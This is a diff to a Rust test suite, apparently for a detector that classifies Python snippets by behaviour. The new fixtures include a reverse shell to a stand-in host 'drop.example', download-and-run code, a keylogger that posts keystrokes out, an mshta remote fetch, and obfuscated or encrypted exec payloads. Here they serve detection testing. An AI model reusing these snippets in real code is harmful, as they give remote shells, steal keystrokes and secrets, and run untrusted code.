@@ -105,7 +105,15 @@ import base64, pickle, zlib
 pickle.loads(zlib.decompress(base64.b64decode('eJxrYOnhSCrNzCnJzCvuYUmtSE2e3MNSkFhc3BqkBwCXegqX')))",
             "execute <- decoded",
         ),
+        (
+            "import subprocess\nsubprocess.Popen(['python3', '-c', 'from thing import manager'], close_fds=True)\n",
+            "process <- other-package",
+        ),
         // Programs that are started as always.
+        (
+            "import subprocess, sys\nsubprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n",
+            "process",
+        ),
         (
             "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n",
             "process",
@@ -204,6 +212,21 @@ with open('p.txt', 'w') as f:
     f.write(str(dict(os.environ)))
 requests.post('https://drop.example', files={'f': open('p.txt', 'rb')})",
             "network-send <- bulk-environment file",
+        ),
+        (
+            r"
+import os, sys, urllib.request
+from random import choice
+def folder():
+    return choice(os.listdir(os.getenv('TEMP')))
+def put(path):
+    open(path, 'w').write(urllib.request.urlopen('https://drop.example').read().decode())
+def run(path):
+    os.system(f'start {sys.executable} {path}')
+there = folder() + '\\' + folder()
+put(there)
+run(there)",
+            "write-then-run <- network",
         ),
         // What is fetched and kept is data.
         (
@@ -341,6 +364,72 @@ with open('/home/u/.profile', 'a') as k:
         ),
     ] {
         expect(text, expected);
+    }
+}
+
+#[test]
+fn what_others_say_or_type_is_followed() {
+    for (text, expected) in [
+        (
+            r"
+import socket, subprocess
+s = socket.socket()
+s.connect(('drop.example', 1))
+subprocess.Popen(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())",
+            "process <- network",
+        ),
+        (
+            r"
+import sys, urllib.request
+open('/tmp/m.py', 'wb').write(urllib.request.urlopen('https://drop.example').read())
+sys.path.insert(0, '/tmp')
+import m",
+            "write-then-run <- network",
+        ),
+        (
+            r"
+from pynput.keyboard import Listener
+import requests
+def told(key):
+    requests.post('https://drop.example', data=str(key))
+with Listener(on_press=told) as one:
+    one.join()",
+            "network-send <- keystrokes",
+        ),
+        (
+            r"
+import subprocess
+subprocess.Popen('mshta https://drop.example/a.hta')",
+            "process <- network",
+        ),
+        (
+            r"
+from cryptography.fernet import Fernet
+key = b'Qr7oVvkrPTPnNyZVh2mBhqZ0Iu6VxHbLm7b4hDkV5lk='
+exec(Fernet(key).decrypt(token))",
+            "execute <- decoded",
+        ),
+    ] {
+        expect(text, expected);
+    }
+    // A module of its own that is written before it is imported.
+    let version = "open('pkg/_version.py', 'w').write('version = 1')\nimport pkg._version\n";
+    assert_eq!(told(version), Vec::<String>::new());
+}
+
+#[test]
+fn constants_of_libraries_are_known() {
+    for text in [
+        r"
+import string
+a = string.ascii_letters
+b = a[::-1]
+exec(''.join([b[a.index(c)] if c in b else c for c in 'RNKLIG LH; LH.HBHGVN(1)']))",
+        r"
+from string import ascii_lowercase as a
+exec(''.join(a[n] for n in (18, 24, 18, 19, 4, 12)) + '(1)')",
+    ] {
+        expect(text, "execute <- decoded");
     }
 }
 
